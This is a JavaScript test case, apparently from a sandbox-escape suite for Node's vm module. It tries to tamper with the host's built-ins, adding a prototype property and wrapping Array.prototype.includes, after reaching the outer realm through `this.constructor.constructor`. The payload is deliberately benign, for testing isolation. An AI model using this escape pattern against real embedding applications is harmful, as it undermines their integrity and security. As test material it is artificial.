/*---
id: proto-tamper-builtins
title: Tamper with the host's built-ins
category: prototype
goal: Change the intrinsics the embedding application's own code runs on (a prototype gains a property, a built-in method is replaced), so that every later line of host code runs on the guest's versions.
technique: Add a property to Object.prototype and replace Array.prototype.includes (with a look-alike) in the realm the script runs in, and in the realm `this.constructor.constructor` leads to. Only a realm shared with the host counts: the host compares its built-ins after the run (the integrity canary).
references: https://nodejs.org/api/vm.html#vm-executing-javascript, https://tc39.es/ecma262/#sec-properties-of-the-object-prototype-object
expect: * = contained; host = escaped; host+vm = escaped
---*/
const changed = [];
function tamper(g, where) {
  try {
    const OP = g.Object.prototype;
    const AP = g.Array.prototype;
    // Non-enumerable and behaviour-preserving, so the host keeps working and the change is found by looking.
    g.Object.defineProperty(OP, 'wbTampered', { value: where, configurable: true, writable: true });
    const includes = AP.includes;
    AP.includes = function includes2(...args) {
      return includes.apply(this, args);
    };
    changed.push(where);
  } catch (e) {
    changed.push(`${where}: ${String(e)}`);
  }
}
tamper(globalThis, 'own realm');
try {
  const outer = this.constructor.constructor('return globalThis')();
  if (outer !== globalThis) tamper(outer, 'outer realm');
} catch {}
console.log('changed built-ins in:', changed.join(', '));
changed.join(', ');
